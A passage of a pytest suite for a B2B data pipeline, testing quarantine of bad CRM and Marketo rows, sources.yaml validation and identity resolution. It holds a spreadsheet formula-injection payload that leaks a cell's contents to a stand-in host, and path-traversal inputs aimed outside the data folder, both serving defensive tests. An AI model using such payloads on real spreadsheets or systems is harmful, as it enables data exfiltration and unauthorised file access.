            "SELECT file_name, row_number, reason, record FROM raw.quarantine"
        ).fetchall()
    }
    wanted = {row_ref(ref, target.name): reason for ref, reason in expect.quarantined.items()}
    assert set(quarantine) == set(wanted), f"quarantined rows {sorted(quarantine)}"
    for ref, fragment in wanted.items():
        assert fragment in quarantine[ref][0], f"row {ref}: reason {quarantine[ref][0]!r}"
        assert quarantine[ref][1], f"row {ref}: the quarantined text is not kept"
    for ref, fragment in expect.record_contains.items():
        assert fragment in quarantine[row_ref(ref, target.name)][1]

    cursor = con.execute(f"SELECT * FROM {result.table}")
    names = [d[0] for d in cursor.description]
    kept = {}
    for values in cursor.fetchall():
        row = dict(zip(names, values, strict=True))
        kept[(Path(row["_file_name"]).name, row["_row_number"])] = row
    assert len(kept) == expect.kept
    assert not set(kept) & set(quarantine), "a row is both kept and quarantined"
    for ref, columns in expect.values.items():
        row = kept[row_ref(ref, target.name)]
        for column, value in columns.items():
            assert same_value(row[column], value), (
                f"row {ref} {column}: {str(row[column])[:80]!r} != {str(value)[:80]!r}"
            )


def test_the_corpus_has_enough_cases() -> None:
    objects = {(case.source_type, case.obj) for case in CASES}
    assert len(CASES) + len(SOURCES_CASES) >= 40
    assert {t for t, _ in objects} >= {"salesforce", "marketo", "mdm"}
    used = {c.content.removeprefix("corpus:") for c in CASES if isinstance(c.content, str)}
    assert {p.name for p in CORPUS.glob("*.csv")} <= used, "a corpus file no case uses"


# --------------------------------------------------------------------------------------------
# sources.yaml
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class SourcesCase:
    id: str
    text: str
    names: tuple[str, ...]  # what the message must name besides the file
    symlink: tuple[str, str] | None = None  # (link inside the data folder, target outside)


SOURCES_CASES = [
    SourcesCase(
        "key_typo",
        "sources:\n  - {name: crm_1, tpye: salesforce}\n",
        ("sources.0", "tpye"),
    ),
    SourcesCase(
        "type_typo",
        "sources:\n  - {name: crm_1, type: salesforce}\n  - {name: mkt, type: markteo}\n",
        ("sources.1.type",),
    ),
    SourcesCase(
        "synced_crm_typo",
        "sources:\n  - {name: crm_1, type: salesforce}\n"
        "  - {name: marketo_1, type: marketo, synced_crm: crm1}\n",
        ("marketo_1", "crm1"),
    ),
    SourcesCase(
        "top_level_typo",
        "source:\n  - {name: crm_1, type: salesforce}\n",
        ("source",),
    ),
    SourcesCase(
        "unclosed_flow_mapping",
        "sources:\n  - {name: crm_1, type: salesforce\n",
        ("not valid YAML",),
    ),
    SourcesCase(
        "path_escaping_with_dot_dot",
        "sources:\n  - {name: crm_1, type: salesforce, path: landing/../../outside}\n",
        ("crm_1", "landing/../../outside"),
    ),
    SourcesCase(
        "absolute_path_outside",
        "sources:\n  - {name: crm_1, type: salesforce, path: /etc}\n",
        ("crm_1", "/etc"),
    ),
    SourcesCase(
        "default_landing_folder_is_a_symlink_outside",
        "sources:\n  - {name: crm_1, type: salesforce}\n",
        ("crm_1",),
        symlink=("landing/crm_1", "outside"),
    ),
]


def write_sources(case: SourcesCase, tmp_path: Path) -> Path:
    data_dir = tmp_path / "env"
    data_dir.mkdir()
    path = data_dir / "sources.yaml"
    path.write_text(case.text, encoding="utf-8")
    if case.symlink:
        link, target = case.symlink
        (tmp_path / target).mkdir()
        (data_dir / link).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(tmp_path / target, data_dir / link)
    return path


@pytest.mark.parametrize("case", SOURCES_CASES, ids=[c.id for c in SOURCES_CASES])
def test_bad_sources_yaml(case: SourcesCase, tmp_path: Path) -> None:
    path = write_sources(case, tmp_path)
    with pytest.raises(SourcesConfigError) as error:
        load_sources(path)
    message = str(error.value)
    assert str(path) in message
    for name in case.names:
        assert name in message, f"{name!r} not in {message!r}"


def test_bad_sources_yaml_stops_the_definitions_with_the_same_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from b2b_assets.definitions import build_definitions

    path = write_sources(SOURCES_CASES[5], tmp_path)
    monkeypatch.setenv("B2B_DATA_DIR", str(path.parent))
    monkeypatch.setenv("B2B_WAREHOUSE", str(tmp_path / "w.duckdb"))
    with pytest.raises(SourcesConfigError) as error:
        build_definitions()
    assert str(path) in str(error.value) and "leaves the data folder" in str(error.value)


# --------------------------------------------------------------------------------------------
# The whole graph: one scenario for what only identity and profiles can show
# --------------------------------------------------------------------------------------------

AS_OF = "2026-11-15"
# crm_1 / crm_2 accounts (15 characters)
ACME1, ACME2, SOLO, CYC = "001AA00000ACME1", "001AA00000ACME2", "001AA00000SOLO1", "001AA00000CYCLE"
ACME_B, CYC_B, INACT_B = "001BB00000ACME1", "001BB00000CYCLE", "001BB00000INACT"
NO_ACCOUNT, GHOST = "001AA00000NOACC", "001AA00000GHOST"
# contacts and opportunities
K_MIX, K_ORPH, K_FORM, K_YES, K_Y, K_NO = (
    "003AA00000MIXED",
    "003AA00000ORPHN",
    "003AA00000FORMU",
    "003AA0000OPTYES",
    "003AA000000OPTY",
    "003AA00000OPTNO",
)
O_ACME1, O_ACME2, O_ACMEB, O_SOLO = (
    "006AA00000ACME1",
    "006AA00000ACME2",
    "006BB00000ACME1",
    "006AA00000SOLO1",
)
O_CYC, O_CYCB, O_ORPH, O_COMMA, O_XYZ, O_HUGE = (
    "006AA00000CYCLE",
    "006BB00000CYCLE",
    "006AA00000ORPHN",
    "006AA00000COMMA",
    "006AA00000XYZcu",
    "006AA00000HUGE1",
)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _key(record: str, instance: str) -> str:
    if instance.startswith("crm") and len(record) == 15:
        record = sf18(record)
    return f"{record}@{instance}"


def _acc(id_: str, name: str, modified: str = "2026-10-01T00:00:00Z", **extra) -> dict:
    return {"Id": id_, "Name": name, "IsDeleted": "false", "LastModifiedDate": modified, **extra}


def _opp(id_: str, account: str, amount: Any, currency: str = "USD", won: bool = True) -> dict:
    return {
        "Id": id_,
        "AccountId": account,
        "Name": f"Deal {id_}",
        "Amount": amount,
        "StageName": "Closed Won" if won else "Open",
        "IsClosed": "true" if won else "false",
        "IsWon": "true" if won else "false",
        "CloseDate": "2026-06-30",
        "CurrencyIsoCode": currency,
    }


def _contact(id_: str, account: str, email: str | None, first="F", opt_out="false") -> dict:
    return {
        "Id": id_,
        "AccountId": account,
        "Email": email,
        "FirstName": first,
        "LastName": "L",
        "HasOptedOutOfEmail": opt_out,
    }


def _visit(guid: str, lead: str, when: str) -> dict:
    return {
        "marketoGUID": guid,
        "leadId": lead,
        "activityDate": when,
        "activityTypeId": "1",
        "primaryAttributeValue": "www.bodea.com/products/new-software",
        "attributes": '{"Webpage URL": "/products/new-software"}',
    }


def build_graph_scenario(env: Landing) -> None:
    """Several graph-level bad inputs in one environment (expectations in the tests below)."""
    env.sources(
        [
            {"name": "crm_1", "type": "salesforce"},
            {"name": "crm_2", "type": "salesforce"},
            {"name": "marketo_1", "type": "marketo", "synced_crm": "crm_1"},
            {"name": "marketo_2", "type": "marketo", "synced_crm": "crm_2"},
            {"name": "mdm", "type": "mdm"},
        ]
    )
    env.fx({"USD": 1, "EUR": 1.08})
    env.csv(
        "crm_1",
        "Account",
        [
            _acc(ACME1, "Acme Corp", "2026-09-01T00:00:00Z", Website="acme.com"),
            _acc(ACME2, "ACME Corporation (duplicate)", "2026-10-01T00:00:00Z"),
            _acc(SOLO, "Solo Ltd"),
            _acc(CYC, "Cycle Co"),
            _acc(sf18("001AA00000FORMU"), FORMULA),
        ],
    )
    env.csv(
        "crm_2",
        "Account",
        [_acc(ACME_B, "Acme GmbH"), _acc(CYC_B, "Cycle Co EU"), _acc(INACT_B, "Inactive Link")],
    )
    env.csv(
        "crm_1",
        "Contact",
        [
            _contact(K_MIX, ACME1, " Mixed.Case@Acme.COM "),
            _contact(K_ORPH, NO_ACCOUNT, "orphan@nowhere.example"),
            _contact(K_FORM, sf18(CYC), "formula@cycle.example", first=FORMULA),
            _contact(K_YES, CYC, "yes@cycle.example", opt_out="Yes"),
            _contact(K_Y, CYC, "y@cycle.example", opt_out="Y"),
            _contact(K_NO, CYC, "no@cycle.example", opt_out="No"),
        ],
    )
    env.csv("crm_2", "Contact", [_contact("003BB00000ACME1", ACME_B, "gmbh@acme.example")])
    env.csv(
        "crm_1",
        "Opportunity",
        [
            _opp(O_ACME1, ACME1, "100000"),
            _opp(O_ACME2, sf18(ACME2), "50000", "EUR"),  # 54,000 USD
            _opp(O_SOLO, SOLO, "7000"),
            _opp(O_CYC, CYC, "300000"),
            _opp(O_ORPH, NO_ACCOUNT, "1000000"),  # an account no extract has
            _opp(O_COMMA, ACME1, "1,000,000"),  # quarantined: not a number
            _opp(O_XYZ, ACME1, "5000", "XYZ"),  # quarantined: no rate
            _opp(O_HUGE, CYC, "1e400"),  # quarantined: not finite
        ],
    )
    env.csv(
        "crm_1",
        "OpportunityContactRole",
        [
            {"Id": "00KAA00000ROLE1", "OpportunityId": O_ACME1, "ContactId": K_MIX},
            {"Id": "00KAA00000ROLE2", "OpportunityId": "006AA00000NOOPP", "ContactId": K_MIX},
        ],
    )
    env.csv(
        "crm_2",
        "Opportunity",
        [_opp(O_ACMEB, ACME_B, "10000"), _opp(O_CYCB, CYC_B, "200000")],
    )
    # Marketo 1 (synced to crm_1): two companies that are both CYC (15- and 18-char ids), the
    # mirror of O_CYC, leads at CYC visiting now / in 2099, and a visit of an unknown lead.
    env.csv(
        "marketo_1",
        "companies",
        [
            {"id": "7001", "externalCompanyId": CYC, "company": "Cycle (mkto)"},
            {"id": "7002", "externalCompanyId": sf18(CYC), "company": "Cycle (mkto dup)"},
        ],
    )
    env.csv(
        "marketo_1",
        "opportunities",
        [
            {
                "marketoGUID": "m1-cyc",
                "externalOpportunityId": O_CYC,
                "externalCompanyId": CYC,
                "amount": "300000",
                "isClosed": "true",
                "isWon": "true",
            }
        ],
    )
    env.csv(
        "marketo_1",
        "leads",
        [
            {"id": "9100", "email": "now@cycle.example", "sfdcAccountId": CYC},
            {"id": "9101", "email": "future@cycle.example", "sfdcAccountId": sf18(CYC)},
            # sfdcAccountId names an account no extract has; the lead's company is CYC's.
            {
                "id": "9102",
                "email": "orphan.sfdc@cycle.example",
                "sfdcAccountId": NO_ACCOUNT,
                "externalCompanyId": CYC,
            },
        ],
    )
    env.csv(
        "marketo_1",
        "activities",
        [
            _visit("a-now", "9100", "2026-11-10T12:00:00Z"),
            _visit("a-future", "9101", "2099-01-01T00:00:00Z"),
            _visit("a-ghost", "424242", "2026-11-10T12:00:00Z"),  # a lead no leads row has
        ],
    )
    # Marketo 2 (synced to crm_2): company 8001 is CYC_B; a lead updated twice (latest wins).
    env.csv("marketo_2", "companies", [{"id": "8001", "externalCompanyId": CYC_B}])
    env.csv(
        "marketo_2",
        "opportunities",
        [
            {
                "marketoGUID": "m2-cycb",
                "externalOpportunityId": sf18(O_CYCB),
                "externalCompanyId": CYC_B,
                "amount": "200000",
                "isClosed": "true",
                "isWon": "true",
            }
        ],
    )
    env.csv(
        "marketo_2",
        "leads",
        [
            {
                "id": "9001",
                "email": "old.address@acme.example",
                "sfdcAccountId": ACME_B,
                "updatedAt": "2026-01-01T00:00:00Z",
            },
            {
                "id": "9001",
                "email": "MIXED.case@acme.com",
                "sfdcAccountId": ACME_B,
                "updatedAt": "2026-10-01T00:00:00Z",
            },
        ],
    )
    env.csv(
        "mdm",
        "account_xref",
        [
            # G-ACME spans two crm_1 accounts that conflict (different names) and a crm_2 one.
            {"golden_id": "G-ACME", "source_instance": "crm_1", "source_record_id": ACME1},
            {"golden_id": "G-ACME", "source_instance": "crm_1", "source_record_id": sf18(ACME2)},
            {"golden_id": "G-ACME", "source_instance": "crm_2", "source_record_id": ACME_B},
            {
                "golden_id": "G-ACME",
                "source_instance": "crm_2",
                "source_record_id": INACT_B,
                "is_active": "N",
            },
            # A record no extract has: must not create an account.
            {"golden_id": "G-ACME", "source_instance": "crm_1", "source_record_id": GHOST},
            {
                "golden_id": "G-GHOST",
                "source_instance": "crm_1",
                "source_record_id": "001AA0000GHOST2",
            },
            # SOLO was G-ACME, then moved to G-SOLO: the latest row wins (15 vs 18 characters).
            {
                "golden_id": "G-ACME",
                "source_instance": "crm_1",
                "source_record_id": SOLO,
                "updated_at": "2026-01-01T00:00:00Z",
            },
            {
                "golden_id": "G-SOLO",
                "source_instance": "crm_1",
                "source_record_id": sf18(SOLO),
                "updated_at": "2026-10-01T00:00:00Z",
            },
            # A cycle: CYC -mdm- CYC_B -sync- 8001@marketo_2 -mdm- CYC, plus 7001/7002 -sync- CYC.
            {"golden_id": "G-CYCLE", "source_instance": "crm_1", "source_record_id": CYC},
            {"golden_id": "G-CYCLE", "source_instance": "crm_2", "source_record_id": sf18(CYC_B)},
            {"golden_id": "G-CYCLE", "source_instance": "marketo_2", "source_record_id": "8001"},
            # An instance sources.yaml does not have: quarantined.
            {"golden_id": "G-ACME", "source_instance": "crm_9", "source_record_id": ACME1},
        ],
        XREF_HEADER,
    )
    env.segment(
        "rich_visitors",
        {
            "name": "rich_visitors",
            "entity": "person",
            "where": {
                "all": [
                    {"accounts": {"where": {"closed_won_revenue": {"gt": 100000}}}},
                    {
                        "events": {
                            "where": {"type": "visit_webpage"},
                            "within": {"days": 30},
                            "count": {"gte": 1},
                        }
                    },
                ]
            },
        },
    )


@pytest.fixture(scope="module")
def graph(tmp_path_factory: pytest.TempPathFactory):
    root = tmp_path_factory.mktemp("bad_inputs_graph")
    env = Landing(root / "env")
    build_graph_scenario(env)
    return materialize_env(env.root, root / "warehouse.duckdb", AS_OF, raise_on_error=False)


def test_graph_scenario_materializes_completely(graph) -> None:
    assert graph.failed_steps() == set()
    failed = [e for e in graph.result.get_asset_check_evaluations() if not e.passed]
    # Objects with bad rows warn through their quarantine check; nothing fails harder.
    assert {(e.check_name, e.severity) for e in failed} <= {("quarantine", AssetCheckSeverity.WARN)}
    assert failed


def test_graph_row_accounting_balances_for_every_raw_object(graph) -> None:
    rows = graph.query(
        """SELECT source_instance, object, rows_read, rows_kept, rows_quarantined
           FROM ops.row_accounting"""
    )
    assert len(rows) >= 30
    assert all(read == kept + quarantined for _, _, read, kept, quarantined in rows)
    reasons = dict(
        graph.query(
            """SELECT source_instance || '.' || object || ':' || row_number, reason
               FROM raw.quarantine"""
        )
    )
    assert reasons == {
        "crm_1.Opportunity:6": "Amount: not a number below 10^15",
        "crm_1.Opportunity:7": "CurrencyIsoCode: no rate in fx_rates.csv for XYZ",
        "crm_1.Opportunity:8": "Amount: not a number below 10^15",
        "marketo_2.leads:1": "duplicate key: a later row wins",
        "mdm.account_xref:7": "duplicate key: a later row wins",
        "mdm.account_xref:12": "source_instance: not a source of sources.yaml",
    }


def _account_of(graph, key: str) -> str | None:
    return graph.scalar("SELECT account_id FROM identity.account WHERE account_key = ?", [key])


def test_graph_golden_id_spanning_conflicting_accounts_is_one_account(graph) -> None:
    members = [_key(ACME1, "crm_1"), _key(ACME2, "crm_1"), _key(ACME_B, "crm_2")]
    assert {_account_of(graph, k) for k in members} == {"G-ACME"}
    name, revenue, keys = graph.query(
        "SELECT name, closed_won_revenue, source_keys FROM profile.account "
        "WHERE account_id = 'G-ACME'"
    )[0]
    assert sorted(keys) == sorted(members)
    # 100,000 + 50,000 EUR * 1.08 + 10,000; the quarantined "1,000,000" and XYZ deals count 0.
    assert revenue == pytest.approx(164000.0)
    assert name == "ACME Corporation (duplicate)"  # the CRM record modified last


def test_graph_inactive_and_superseded_mdm_rows_do_not_link(graph) -> None:
    assert _account_of(graph, _key(INACT_B, "crm_2")) == _key(INACT_B, "crm_2")
    # The latest row says SOLO is G-SOLO; its older G-ACME row (15-char id) is superseded.
    assert _account_of(graph, _key(SOLO, "crm_1")) == "G-SOLO"
    assert graph.scalar(
        "SELECT closed_won_revenue FROM profile.account WHERE account_id = 'G-SOLO'"
    ) == pytest.approx(7000.0)


def test_graph_mdm_rows_of_unknown_records_create_no_account(graph) -> None:
    ids = {row[0] for row in graph.query("SELECT account_id FROM profile.account")}
    assert "G-GHOST" not in ids
    keys = {k for row in graph.query("SELECT source_keys FROM profile.account") for k in row[0]}
    assert not any("GHOST" in k for k in keys)
    assert graph.scalar("SELECT count(*) FROM profile.account") == 5


def test_graph_cycle_of_sync_and_mdm_links_is_one_account(graph) -> None:
    members = {
        _key(CYC, "crm_1"),
        _key(CYC_B, "crm_2"),
        "7001@marketo_1",
        "7002@marketo_1",
        "8001@marketo_2",
    }
    assert {_account_of(graph, k) for k in members} == {"G-CYCLE"}
    keys, revenue, won = graph.query(
        "SELECT source_keys, closed_won_revenue, closed_won_count FROM profile.account "
        "WHERE account_id = 'G-CYCLE'"
    )[0]
    assert set(keys) == members
    # O_CYC through crm_1 and marketo_1, O_CYCB through crm_2 and marketo_2: each once.
    assert (revenue, won) == (pytest.approx(500000.0), 2)


def test_graph_orphan_contact_is_a_person_without_account(graph) -> None:
    account_ids, can_email = graph.query(
        "SELECT account_ids, can_email FROM profile.person WHERE email = 'orphan@nowhere.example'"
    )[0]
    assert account_ids == []
    assert can_email is True


def test_graph_orphan_opportunity_counts_for_no_account(graph) -> None:
    (row,) = graph.query(
        "SELECT account_id, amount_usd FROM profile.opportunity WHERE opportunity_id = ?",
        [_key(O_ORPH, "crm_1")],
    )
    assert row == (None, 1000000.0)
    total = graph.scalar("SELECT sum(closed_won_revenue) FROM profile.account")
    assert total == pytest.approx(164000.0 + 7000.0 + 500000.0)
    # A contact role on an opportunity no extract has gives no person_opportunity row.
    assert graph.scalar("SELECT count(*) FROM profile.person_opportunity") == 1


def test_graph_activity_of_unknown_lead_is_kept_but_no_person(graph) -> None:
    assert (
        graph.scalar(
            "SELECT count(*) FROM b2b.experience_event WHERE person_key = '424242@marketo_1'"
        )
        == 1
    )
    assert (
        graph.scalar("SELECT count(*) FROM identity.person WHERE person_key = '424242@marketo_1'")
        == 0
    )


def test_graph_future_activity_is_not_seen(graph) -> None:
    members = {row[0] for row in graph.query("SELECT email FROM audience.rich_visitors")}
    assert members == {"now@cycle.example"}
    last, events = graph.query(
        "SELECT last_activity_at, event_count FROM profile.person "
        "WHERE email = 'future@cycle.example'"
    )[0]
    assert (last, events) == (None, 0)


def test_graph_mixed_case_spaced_emails_unify_and_superseded_email_is_gone(graph) -> None:
    emails = {row[0] for row in graph.query("SELECT email FROM profile.person")}
    assert "mixed.case@acme.com" in emails
    assert "old.address@acme.example" not in emails
    keys, account_ids = graph.query(
        "SELECT source_keys, account_ids FROM profile.person WHERE email = 'mixed.case@acme.com'"
    )[0]
    assert sorted(keys) == sorted([_key(K_MIX, "crm_1"), "9001@marketo_2"])
    assert account_ids == ["G-ACME"]


def test_graph_yes_y_opt_outs_and_formula_names(graph) -> None:
    consent = dict(
        graph.query(
            "SELECT email, can_email FROM profile.person WHERE email LIKE '%@cycle.example'"
        )
    )
    assert consent["yes@cycle.example"] is False
    assert consent["y@cycle.example"] is False
    assert consent["no@cycle.example"] is True
    assert (
        graph.scalar("SELECT first_name FROM profile.person WHERE email = 'formula@cycle.example'")
        == FORMULA
    )
    assert graph.scalar("SELECT count(*) FROM profile.account WHERE name = ?", [FORMULA]) == 1


def test_graph_lead_with_orphan_sfdc_account_keeps_its_company(graph) -> None:
    """A lead whose sfdcAccountId names an account no extract has still belongs to its
    company's account (contract section 4: "... and the Marketo lead's company")."""
    assert graph.scalar(
        "SELECT account_ids FROM profile.person WHERE email = 'orphan.sfdc@cycle.example'"
    ) == ["G-CYCLE"]


def test_graph_single_odd_rows_do_not_block_the_graph(tmp_path: Path) -> None:
    """Rows the raw layer keeps must not make a later blocking check fail, which would stop
    every table downstream (profiles, audiences) for all accounts:

    * a credit note booked as a closed-won deal of -500: a number, so kept; the account's
      closed-won revenue is the sum of its deals (contract section 4), -500;
    * an Account Id with a line break inside its quoted value: kept or quarantined, never a
      source key that breaks b2b.account;
    * a closed-won deal of 1.7e308 EUR: finite as read, infinite in USD; no account's
      revenue may become infinite."""
    env = Landing(tmp_path / "env")
    env.sources([{"name": "crm_1", "type": "salesforce"}])
    env.fx({"USD": 1, "EUR": 1.08})
    env.csv(
        "crm_1",
        "Account",
        [
            _acc(ACME1, "Acme Corp"),
            _acc(SOLO, "Refunds Inc"),
            _acc("001AA0000\nBROKE", "Line break in the id"),
            _acc(CYC, "Huge Deal Co"),
        ],
    )
    env.csv("crm_1", "Contact", [_contact(K_MIX, ACME1, "a@acme.example")])
    env.csv(
        "crm_1",
        "Opportunity",
        [
            _opp(O_ACME1, ACME1, "1000"),
            _opp(O_SOLO, SOLO, "-500"),
            _opp(O_HUGE, CYC, "1.7e308", "EUR"),
        ],
    )
    run = materialize_env(env.root, tmp_path / "warehouse.duckdb", AS_OF, raise_on_error=False)
    failed_checks = [
        e.asset_key.to_user_string()
        for e in run.result.get_asset_check_evaluations()
        if not e.passed and e.severity == AssetCheckSeverity.ERROR
    ]
    assert (sorted(run.failed_steps()), failed_checks) == ([], [])
    revenue = dict(run.query("SELECT name, closed_won_revenue FROM profile.account"))
    assert revenue["Acme Corp"] == 1000.0
    assert revenue["Refunds Inc"] == -500.0
    assert all(math.isfinite(value) for value in revenue.values()), revenue
    kept = run.scalar("SELECT count(*) FROM b2b.account WHERE contains(source_id, chr(10))")
    quarantined = run.scalar(
        "SELECT count(*) FROM raw.quarantine WHERE object = 'Account' AND contains(record, 'BROKE')"
    )
    assert kept + quarantined == 1
    assert run.scalar("SELECT count(*) FROM profile.person") == 1
